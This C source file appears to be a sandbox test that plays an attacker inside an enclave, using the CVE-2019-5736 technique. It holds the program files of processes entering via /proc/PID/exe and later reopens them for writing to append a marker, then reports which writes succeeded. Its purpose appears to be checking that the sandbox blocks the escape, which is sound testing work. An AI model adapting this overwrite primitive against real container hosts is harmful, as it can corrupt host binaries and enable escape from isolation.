// An attacker inside an enclave: keeps hold of the program file of every process that enters, and
// writes to those files once nobody executes them any more (the class of CVE-2019-5736).
//
//   overwriter FOLDER [OWN...]
//
// Makes FOLDER/ready, and looks until FOLDER/stop exists. Then it tries each file that it holds,
// and leaves FOLDER/report: "held NAME" for each, and "wrote NAME" where a write succeeded, "done"
// last. The files OWN are the image's and no find. It is process 1 and waits to be killed
// afterwards.
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum { most = 64 };

static struct {
  int fd;
  dev_t device;
  ino_t inode;
  char name[256];
} held[most];
static int held_count;

static int known(const struct stat* info) {
  for (int i = 0; i < held_count; ++i)
    if (held[i].device == info->st_dev && held[i].inode == info->st_ino) return 1;
  return 0;
}

// The image's own files are no find: they are entered in the list without a descriptor.
static void note_own(const char* path) {
  struct stat info;
  if (held_count == most || stat(path, &info) != 0 || known(&info)) return;
  held[held_count].fd = -1;
  held[held_count].device = info.st_dev;
  held[held_count].inode = info.st_ino;
  ++held_count;
}

static void look_at(const char* pid) {
  char path[64];
  struct stat info;
  snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  if (fstat(fd, &info) != 0 || known(&info) || held_count == most) {
    close(fd);
    return;
  }
  ssize_t n = readlink(path, held[held_count].name, sizeof held[0].name - 1);
  if (n < 0) n = 0;
  held[held_count].name[n] = '\0';
  held[held_count].fd = fd;
  held[held_count].device = info.st_dev;
  held[held_count].inode = info.st_ino;
  ++held_count;
}

int main(int argc, char** argv) {
  if (argc < 2 || chdir(argv[1]) != 0) return 2;
  note_own("/proc/self/exe");
  for (int i = 2; i < argc; ++i) note_own(argv[i]);
  close(open("ready", O_WRONLY | O_CREAT, 0644));
  // The numbers to come are known: a loop over the next ones is faster than a listing of /proc.
  int next = 2;
  for (long round = 0; access("stop", F_OK) != 0 && round < 100000000L; ++round) {
    DIR* proc = round % 64 == 0 ? opendir("/proc") : NULL;
    for (struct dirent* entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
      if (!isdigit((unsigned char)entry->d_name[0])) continue;
      int pid = atoi(entry->d_name);
      if (pid >= next && pid < 20000) next = pid + 1;
      look_at(entry->d_name);
    }
    if (proc != NULL) closedir(proc);
    for (int i = -2; i < 4; ++i) {
      char pid[24];
      snprintf(pid, sizeof pid, "%d", next + i);
      if (next + i > 1) look_at(pid);
    }
    for (int i = 0; i < 2; ++i)
      look_at(i == 0 ? "20000" : "20001");  // remora gives its ranks these
    while (waitpid(-1, NULL, WNOHANG) > 0) continue;
  }
  FILE* report = fopen("report.new", "w");
  if (report == NULL) return 1;
  for (int i = 0; i < held_count; ++i) {
    if (held[i].fd < 0) continue;
    fprintf(report, "held %s\n", held[i].name);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
    int fd = -1;
    for (int tries = 0; tries < 200 && fd < 0; ++tries) {
      fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (fd < 0 && errno != ETXTBSY) break;
      if (fd < 0) usleep(10000);
    }
    if (fd < 0)
      fprintf(report, "not opened: %s\n", strerror(errno));
    else if (write(fd, "overwritten", 11) != 11)
      fprintf(report, "not written: %s\n", strerror(errno));
    else
      fprintf(report, "wrote %s\n", held[i].name);
  }
  fprintf(report, "done\n");
  fclose(report);
  rename("report.new", "report");
  for (;;) pause();
}
